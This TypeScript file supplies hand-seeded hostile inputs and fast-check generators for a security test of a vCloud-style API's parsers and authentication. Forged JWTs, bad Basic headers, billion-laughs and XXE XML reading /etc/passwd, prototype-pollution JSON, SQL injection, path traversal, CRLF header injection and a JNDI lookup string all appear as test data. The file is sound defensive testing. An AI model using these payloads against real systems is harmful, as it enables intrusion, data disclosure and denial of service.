/**
 * Hand-seeded hostile inputs and the fast-check arbitraries of test/security/hostile-input.test.ts.
 * STYLE §8: properties for every parser, with the hostile cases seeded by hand.
 */
import { createHmac, randomUUID } from 'node:crypto';
import fc from 'fast-check';
import type { RouteSpec } from '../../src/api/http/route.ts';
import { BODY_LIMIT_BYTES, HEADER_LIMIT_BYTES } from '../../src/api/http/create-http-app.ts';
import { signAccessToken, type SigningKey } from '../../src/tokens/access-token.ts';

/** One generated request. */
export interface HostileRequest {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
  /** Why it was made (shown when a response breaks a property). */
  label: string;
}

/** The credentials the generators may use: real ones (to reach handlers) and forged ones. */
export interface CredentialPool {
  /** Valid bearer access tokens (provider, tenant admin, API-token session). */
  valid: string[];
  /** Valid legacy `x-vcloud-authorization` tokens. */
  legacy: string[];
  /** The current signing key, to forge tokens that differ from a valid one in one way only. */
  key: SigningKey;
  /** Claims of a live session, to forge around. */
  claims: { sub: string; iss: string; jti: string };
  /** A real API token, to flip characters of. */
  apiToken: string;
  /** Ids of real objects (org, users, group, role) of a sacrificial tenant. */
  realIds: string[];
}

const b64 = (v: unknown) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');

/** Access tokens that must all be refused: each breaks one rule (RFC 8725 §2, §3.1). */
export function forgedAccessTokens(pool: CredentialPool): string[] {
  const now = Math.floor(Date.now() / 1000);
  const claims = { ...pool.claims, iat: now, exp: now + 3600, version: 'vcloud_1.0' as const };
  const valid = signAccessToken(claims, pool.key);
  const [h, p] = valid.split('.') as [string, string];
  const hmac = (data: string, secret: Buffer | string) => createHmac('sha256', secret).update(data).digest('base64url');
  const noneHeader = b64({ alg: 'none', typ: 'JWT', kid: pool.key.kid });
  const flip = (s: string, i: number) => s.slice(0, i) + (s[i] === 'A' ? 'B' : 'A') + s.slice(i + 1);
  return [
    `${noneHeader}.${p}.`,
    `${noneHeader}.${p}`,
    `${b64({ alg: 'NONE', kid: pool.key.kid })}.${p}.`,
    `${h}.${p}.${hmac(`${h}.${p}`, 'wrong-key')}`,
    `${b64({ alg: 'HS256', kid: 'no-such-kid' })}.${p}.${hmac(`${b64({ alg: 'HS256', kid: 'no-such-kid' })}.${p}`, pool.key.secret)}`,
    `${b64({ alg: 'HS512', kid: pool.key.kid })}.${p}.${createHmac('sha512', pool.key.secret).update('x').digest('base64url')}`,
    `${b64({ alg: 'RS256', kid: pool.key.kid })}.${p}.${hmac(`${h}.${p}`, pool.key.secret)}`,
    signAccessToken({ ...claims, exp: now - 1 }, pool.key),
    signAccessToken({ ...claims, iat: now - 7200, exp: now - 3600 }, pool.key),
    signAccessToken({ ...claims, iat: now + 3600, exp: now + 7200 }, pool.key),
    signAccessToken({ ...claims, jti: randomUUID() }, pool.key),
    signAccessToken({ ...claims, jti: "' OR 1=1 --" }, pool.key),
    flip(valid, valid.length - 5),
    flip(valid, h.length + 5),
    flip(valid, 3),
    `${h}.${p}`,
    `${h}..${valid.split('.')[2] ?? ''}`,
    `${b64('null')}.${p}.x`,
    `${b64('[]')}.${b64('null')}.x`,
    `${b64('"x"')}.${b64(42)}.x`,
    `${b64({ alg: 'HS256', kid: { $ne: 1 } })}.${p}.x`,
    `${b64({ alg: 'HS256', kid: pool.key.kid })}.${b64('null')}.${hmac(`${b64({ alg: 'HS256', kid: pool.key.kid })}.${b64('null')}`, 'k')}`,
    `${b64({ alg: 'HS256', kid: pool.key.kid })}.${b64({ jti: 1, exp: 'x', iat: null })}.x`,
    'a.b.c', '...', '.', '', `${'a'.repeat(5000)}.b.c`, 'Bearer', '%00%01', 'eyJ.eyJ.sig',
  ];
}

/** Authorization headers a login must refuse without a 5xx (spec §3.1). */
export const BAD_BASIC = [
  'Basic', 'Basic ', 'Basic =', 'Basic ====', 'Basic !!!', 'Basic YQ', 'Basic YTpi', 'Basic QA==', 'Basic OmI=',
  `Basic ${Buffer.from('administrator@System').toString('base64')}`,
  `Basic ${Buffer.from('@:x').toString('base64')}`,
  `Basic ${Buffer.from('a@:x').toString('base64')}`,
  `Basic ${Buffer.from('@b:x').toString('base64')}`,
  `Basic ${Buffer.from('a@b@c:x:y:z').toString('base64')}`,
  `Basic ${Buffer.from([0xff, 0xfe, 0x40, 0x3a, 0x00]).toString('base64')}`,
  `Basic ${Buffer.from('a\u0000b@System:\u0000').toString('base64')}`,
  `Basic ${Buffer.from(`${'u'.repeat(3000)}@${'o'.repeat(3000)}:p`).toString('base64').slice(0, 4096)}`,
  `Basic ${'A'.repeat(5000)}`,
  'Digest username="a"', 'NTLM TlRMTVNTUAAB', 'basic YTpiQGM=', 'BASIC YWRtaW5pc3RyYXRvckBTeXN0ZW06eA==',
];

/** Bodies every parser must refuse cleanly. */
const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]><User xmlns="http://www.vmware.com/vcloud/v1.5" name="&lol9;"><FullName>&lol9;</FullName></User>`;
const XXE = '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><User xmlns="http://www.vmware.com/vcloud/v1.5" name="x"><FullName>&xxe;</FullName></User>';
const PARAMETER_ENTITY = '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY % p SYSTEM "http://127.0.0.1:1/x.dtd"> %p;]><User name="x"/>';
const DEEP_JSON_ARRAY = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
const DEEP_JSON_OBJECT = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
const DEEP_XML = `<User name="x">${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</User>`;

export interface SeededBody { label: string; contentType: string | undefined; body: Buffer }

export function seededBodies(): SeededBody[] {
  const s = (label: string, contentType: string | undefined, body: string | Buffer): SeededBody => ({ label, contentType, body: Buffer.isBuffer(body) ? body : Buffer.from(body) });
  return [
    s('billion laughs', 'application/xml', BILLION_LAUGHS),
    s('billion laughs as a User', 'application/vnd.vmware.admin.user+xml', BILLION_LAUGHS),
    s('external entity', 'application/xml', XXE),
    s('parameter entity', 'text/xml', PARAMETER_ENTITY),
    s('deep XML', 'application/xml', DEEP_XML),
    s('deep JSON array', 'application/json', DEEP_JSON_ARRAY),
    s('deep JSON object', 'application/json', DEEP_JSON_OBJECT),
    s('deep JSON as vCloud JSON', 'application/vnd.vmware.vcloud.user+json', DEEP_JSON_OBJECT),
    s('deep JSON without content type', undefined, DEEP_JSON_OBJECT),
    s('oversized JSON', 'application/json', `{"name":"${'x'.repeat(BODY_LIMIT_BYTES + 10)}"}`),
    s('oversized form', 'application/x-www-form-urlencoded', `grant_type=refresh_token&refresh_token=${'x'.repeat(BODY_LIMIT_BYTES + 10)}`),
    s('oversized XML', 'application/xml', `<User name="${'x'.repeat(BODY_LIMIT_BYTES + 10)}"/>`),
    s('invalid UTF-8 JSON', 'application/json', Buffer.from([0x7b, 0x22, 0x6e, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0xff, 0xfe, 0x22, 0x7d])),
    s('invalid UTF-8 XML', 'application/xml', Buffer.concat([Buffer.from('<User name="'), Buffer.from([0xc3, 0x28, 0xed, 0xa0, 0x80]), Buffer.from('"/>')])),
    s('invalid UTF-8 form', 'application/x-www-form-urlencoded', Buffer.concat([Buffer.from('grant_type=refresh_token&refresh_token='), Buffer.from([0xff, 0xc0, 0x80])])),
    s('UTF-16 JSON', 'application/json; charset=utf-16', Buffer.from('\ufeff{"name":"x"}', 'utf16le')),
    s('NUL bytes', 'application/json', '{"name":"\u0000\u0001\u001f","client_name":"\u0000"}'),
    s('control characters', 'application/json', JSON.stringify({ name: 'a\u0007b\u001b[31m', client_name: '\r\nSet-Cookie: x=1', username: '\u202e', password: '\u0000' })),
    s('proto pollution', 'application/json', '{"__proto__":{"isProvider":true},"constructor":{"prototype":{"x":1}},"name":"p"}'),
    s('duplicate keys', 'application/json', '{"name":"a","name":"b","client_name":"a","client_name":"b"}'),
    s('JSON scalar', 'application/json', '"just a string"'),
    s('JSON null', 'application/json', 'null'),
    s('JSON array', 'application/json', '[1,2,3]'),
    s('truncated JSON', 'application/json', '{"name":"x",'),
    s('JSON with comments', 'application/json', '{/* c */"name":"x"}'),
    s('big numbers', 'application/json', '{"cpuCount":1e999,"memoryMb":-1e309,"deployedVmQuota":9007199254740993,"name":"n","pageSize":1e9}'),
    s('wrong types', 'application/json', '{"name":{"a":1},"values":"x","roleEntityRefs":"x","usersList":{},"enabled":"yes","password":[],"code":123}'),
    s('huge values array', 'application/json', JSON.stringify({ values: Array.from({ length: 5000 }, (_, i) => ({ id: `urn:vcloud:right:${i}` })) })),
    s('malformed XML', 'application/xml', '<User name="x"><FullName>unclosed</User>'),
    s('XML with a processing instruction', 'application/xml', '<?xml-stylesheet href="http://127.0.0.1:1/x"?><User name="x"/>'),
    s('XML CDATA script', 'application/xml', '<User name="x"><FullName><![CDATA[<script>alert(1)</script>]]></FullName></User>'),
    s('XML namespaces abuse', 'application/xml', `<a:User xmlns:a="urn:x" ${Array.from({ length: 500 }, (_, i) => `xmlns:n${i}="urn:${i}"`).join(' ')} name="x"/>`),
    s('XML many attributes', 'application/xml', `<User ${Array.from({ length: 2000 }, (_, i) => `a${i}="${i}"`).join(' ')}/>`),
    s('XML as JSON', 'application/json', '<User name="x"/>'),
    s('JSON as XML', 'application/xml', '{"name":"x"}'),
    s('form with duplicates', 'application/x-www-form-urlencoded', 'grant_type=refresh_token&grant_type=refresh_token&refresh_token=a&refresh_token=b'),
    s('form with empty names', 'application/x-www-form-urlencoded', '=&&=&grant_type=&refresh_token=&assertion=&client_id='),
    s('form with too many parameters', 'application/x-www-form-urlencoded', Array.from({ length: 500 }, (_, i) => `p${i}=${i}`).join('&')),
    s('form with __proto__', 'application/x-www-form-urlencoded', '__proto__=x&constructor=y&grant_type=refresh_token&refresh_token=odt_x'),
    s('form with bad percent-encoding', 'application/x-www-form-urlencoded', 'grant_type=%zz&refresh_token=%&client_id=%C3%28'),
    s('multipart', 'multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="grant_type"\r\n\r\nrefresh_token\r\n--x--\r\n'),
    s('garbage media type', 'a/b/c;;;=', 'whatever'),
    s('text plain JSON', 'text/plain', '{"name":"x"}'),
    s('empty JSON body', 'application/json', ''),
    s('whitespace JSON body', 'application/json', ' \r\n\t '),
    s('binary', 'application/octet-stream', Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 37) % 256))),
  ];
}

/** Path parameter values: hostile ones, well-formed but unknown ones, and real ones. */
export function paramArb(pool: CredentialPool): fc.Arbitrary<string> {
  const uuid = fc.uuid();
  return fc.oneof(
    { weight: 3, arbitrary: uuid },
    { weight: 3, arbitrary: fc.tuple(fc.constantFrom('user', 'org', 'token', 'role', 'group', 'globalRole', 'rightsBundle', 'right', 'vdc', 'vapp', 'vm', 'task', 'session', 'audit', 'foo', ''), uuid).map(([t, u]) => `urn:vcloud:${t}:${u}`) },
    { weight: 2, arbitrary: fc.constantFrom(...pool.realIds) },
    { weight: 1, arbitrary: fc.constantFrom(...pool.realIds).map((id) => `urn:vcloud:user:${id}`) },
    { weight: 1, arbitrary: fc.constantFrom(...pool.realIds).map((id) => id.toUpperCase()) },
    { weight: 1, arbitrary: uuid.map((u) => `vm-${u}`) },
    { weight: 1, arbitrary: uuid.map((u) => `vapp-${u}`) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        "' OR 1=1 --", '"; DROP TABLE users; --', '../../etc/passwd', '..', '.', '%2e%2e', '%00', '%C3%28', '%FF%FE', '%E0%80%80', '%ED%A0%80',
        '%0d%0aSet-Cookie:x=1', '<x>&amp;"\'', '${jndi:ldap://x}', '{{7*7}}', 'urn:vcloud:user:', 'urn:vcloud::', 'urn:::', 'null', 'undefined',
        '__proto__', 'constructor', 'current', 'provider', 'System', 'system', 'SYSTEM', 'acme', 'ACME', 'a'.repeat(600), '%20', '%09', '\u0000'.replace('\u0000', '%01'),
        'vm-', 'vapp-', 'vm-x', 'vm-../x', 'urn:vcloud:org:00000000-0000-0000-0000-000000000000', '0', '-1', '1e9', '9'.repeat(40),
      ),
    },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }).map((v) => encodeURIComponent(v)) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map((v) => encodeURIComponent(v)) },
  );
}

/** FIQL and paging parameters, valid and broken. */
const FIQL = fc.oneof(
  fc.constantFrom(
    'name==x', 'name==*', 'name==', '==x', 'name=', 'name=gt=', 'name==x;', ';;', ',,', '(', ')', '((name==x)', 'name==x)', 'name=zz=1',
    'unknownField==1', 'id==urn:vcloud:user:x', 'createdAt=gt=notadate', 'createdAt=ge=2024-13-45T99:99:99Z', 'enabled==maybe', 'cpuCount=lt=abc',
    // Deep and long expressions that still fit the request-line limit (HEADER_LIMIT_BYTES) …
    `${'(name==x;'.repeat(300)}name==x${')'.repeat(300)}`, `${'('.repeat(1500)}name==x${')'.repeat(1500)}`, `name==${'*'.repeat(3000)}`,
    `${Array.from({ length: 300 }, () => 'name==x').join(',')}`,
    // … and ones that do not (answered 431 by Node before any parsing).
    `${'(name==x;'.repeat(2000)}name==x${')'.repeat(2000)}`, `${Array.from({ length: 2000 }, () => 'name==x').join(',')}`,
    "name=='x'", 'name=="x', 'name==%', 'name==\\', 'name==%00', 'name==x;drop==1', "name==' OR 1=1 --", 'a.b.c.d.e==1', '__proto__==1',
  ),
  fc.string({ unit: fc.constantFrom(...'()=;,!*<>a~\'"\\%x0: '.split('')), maxLength: 60 }),
);

export function queryArb(): fc.Arbitrary<string> {
  const pair = fc.oneof(
    FIQL.map((f) => `filter=${encodeURIComponent(f)}`),
    fc.constantFrom('page=-1', 'page=0', 'page=1e9', 'page=abc', 'pageSize=0', 'pageSize=-5', 'pageSize=1000000', 'pageSize=1.5', 'pageSize=',
      'sortAsc=unknown', 'sortDesc=%00', 'sortAsc=name&sortDesc=name', 'type=', 'type=user', 'type=adminUser', 'type=nope', 'type=vm', 'type=task',
      'format=idrecords', 'format=x', 'fields=%00', 'filterEncoded=true', 'links=true', 'grant_type=refresh_token', 'refresh_token=odt_x', 'a', '=', '&', '%', '%ZZ=1',
      'filter=a&filter=b', 'page=1&page=2', 'type=user&type=group', 'x[y]=1', '__proto__[x]=1', `q=${'x'.repeat(8000)}`),
    fc.tuple(fc.string({ maxLength: 10 }), fc.string({ maxLength: 30 })).map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`),
  );
  return fc.array(pair, { maxLength: 4 }).map((pairs) => (pairs.length === 0 ? '' : `?${pairs.join('&')}`));
}

/** Extra request headers: version negotiation, tenant context, request ids, and oversized ones. */
export function headerArb(): fc.Arbitrary<Record<string, string>> {
  const accept = fc.constantFrom(
    'application/json;version=37.0', 'application/json;version=39.1', 'application/*+xml;version=36.0', 'application/*+json;version=37.0',
    'application/json;version=999.0', 'application/json;version=abc', 'application/json;version=', 'application/json;version=37.0;version=38.0',
    '*/*', 'text/html', 'application/xml', '', ';;;', `application/json;version=${'9'.repeat(300)}`,
  );
  const tenant = fc.oneof(
    fc.constant(undefined),
    fc.uuid(),
    fc.uuid().map((u) => `urn:vcloud:org:${u}`),
    fc.constantFrom('System', 'acme', 'not-a-uuid', 'urn:vcloud:org:', "' OR 1=1 --", 'a,b', ','),
  );
  return fc.record({
    accept,
    tenant,
    authContext: fc.option(fc.constantFrom('System', 'acme', 'ACME', 'nosuch', '', '%00'), { nil: undefined }),
    requestId: fc.option(fc.constantFrom('abc-123', 'x'.repeat(500), '<script>', 'a b', '../'), { nil: undefined }),
    otp: fc.option(fc.constantFrom('000000', '123456', '1', 'abcdef', ' 123456 ', '9'.repeat(100)), { nil: undefined }),
  }, { requiredKeys: ['accept'] }).map((h) => {
    const out: Record<string, string> = {};
    if (h.accept) out.accept = h.accept;
    if (h.tenant !== undefined) out['x-vmware-vcloud-tenant-context'] = h.tenant;
    if (h.authContext !== undefined) out['x-vmware-vcloud-auth-context'] = h.authContext;
    if (h.requestId !== undefined) out['x-vmware-vcloud-client-request-id'] = h.requestId;
    if (h.otp !== undefined) out['x-opendirector-otp'] = h.otp;
    return out;
  });
}

/**
 * Roughly how many bytes the request line and headers take. Node counts both against
 * HEADER_LIMIT_BYTES (its `maxHeaderSize`), so an over-long URL is answered 431 like a huge header.
 */
export function headBytes(req: HostileRequest): number {
  return req.method.length + req.path.length + 16 + Object.entries(req.headers).reduce((n, [k, v]) => n + k.length + Buffer.byteLength(v) + 4, 0);
}
/** Whether Node may refuse the request's head as too large (slack for Host, Connection, …). */
export function isOversizedHead(req: HostileRequest): boolean {
  return headBytes(req) > HEADER_LIMIT_BYTES - 256;
}

/** A header larger than the server accepts (HEADER_LIMIT_BYTES): answered 431 by Node itself. */
export const HUGE_HEADER_VALUE = 'x'.repeat(HEADER_LIMIT_BYTES + 1024);

/** Credentials: real ones (so handlers run), forged ones and broken ones. */
export function credentialArb(pool: CredentialPool): fc.Arbitrary<Record<string, string>> {
  const forged = forgedAccessTokens(pool);
  const flipped = pool.apiToken.slice(0, 40) + (pool.apiToken[40] === 'a' ? 'b' : 'a') + pool.apiToken.slice(41);
  return fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...pool.valid).map((t): Record<string, string> => ({ authorization: `Bearer ${t}` })) },
    { weight: 1, arbitrary: fc.constantFrom(...pool.valid).map((t) => ({ 'x-vmware-vcloud-access-token': t, 'x-vmware-vcloud-token-type': 'Bearer' })) },
    { weight: 1, arbitrary: fc.constantFrom(...pool.legacy).map((t) => ({ 'x-vcloud-authorization': t })) },
    { weight: 3, arbitrary: fc.constantFrom(...forged).map((t) => ({ authorization: `Bearer ${t}` })) },
    { weight: 1, arbitrary: fc.constantFrom(...forged).map((t) => ({ 'x-vmware-vcloud-access-token': t })) },
    { weight: 2, arbitrary: fc.constantFrom(...BAD_BASIC).map((b) => ({ authorization: b })) },
    { weight: 1, arbitrary: fc.constant({}) },
    {
      weight: 1,
      arbitrary: fc.constantFrom<Record<string, string>>(
        { authorization: `Bearer ${pool.apiToken}` }, { authorization: `Bearer ${flipped}` }, { 'x-vcloud-authorization': 'Bearer x.y.z' },
        { 'x-vcloud-authorization': 'f'.repeat(32) }, { 'x-vcloud-authorization': 'F'.repeat(32) }, { 'x-vmware-vcloud-access-token': 'x', 'x-vmware-vcloud-token-type': 'Basic' },
        { cookie: 'od_session=garbage' }, { cookie: `od_session=${pool.valid[0] ?? ''}` }, { cookie: `od_session=${pool.valid[0] ?? ''}`, 'x-opendirector-csrf': 'guess' },
        { cookie: 'od_session=; od_session=x; =;;' }, { authorization: 'Bearer' }, { authorization: 'Bearer  ' }, { authorization: 'bearer x y' },
      ),
    },
  );
}

/** Token endpoint bodies: duplicates, empties, wrong grants, flipped and foreign tokens. */
export function tokenFormArb(pool: CredentialPool): fc.Arbitrary<string> {
  const flipped = (i: number) => pool.apiToken.slice(0, i) + (pool.apiToken[i] === 'a' ? 'b' : 'a') + pool.apiToken.slice(i + 1);
  const grant = fc.constantFrom('refresh_token', 'urn:ietf:params:oauth:grant-type:jwt-bearer', 'password', 'client_credentials', 'authorization_code', '', 'REFRESH_TOKEN', '%00');
  const token = fc.oneof(
    fc.integer({ min: 0, max: pool.apiToken.length - 1 }).map(flipped),
    fc.constantFrom(pool.apiToken.slice(0, -1), `${pool.apiToken}x`, 'odt_', `odt_${'0'.repeat(32)}${'A'.repeat(49)}`, '', '%00', 'null'),
    fc.string({ maxLength: 100 }).map(encodeURIComponent),
  );
  const assertion = fc.oneof(fc.constantFrom(...forgedAccessTokens(pool)), fc.constantFrom(...pool.valid));
  return fc.tuple(grant, token, assertion, fc.option(fc.string({ maxLength: 50 }), { nil: undefined }), fc.boolean()).map(([g, t, a, clientId, dup]) =>
    [`grant_type=${g}`, `refresh_token=${t}`, `assertion=${a}`, ...(clientId !== undefined ? [`client_id=${encodeURIComponent(clientId)}`] : []), ...(dup ? [`refresh_token=${t}`] : [])].join('&'));
}

/** Fills a route's `:params` with generated values. */
export function fillPath(route: RouteSpec, values: string[]): string {
  let i = 0;
  return route.path.replace(/:[A-Za-z]+/g, () => values[i++ % Math.max(1, values.length)] ?? 'x');
}
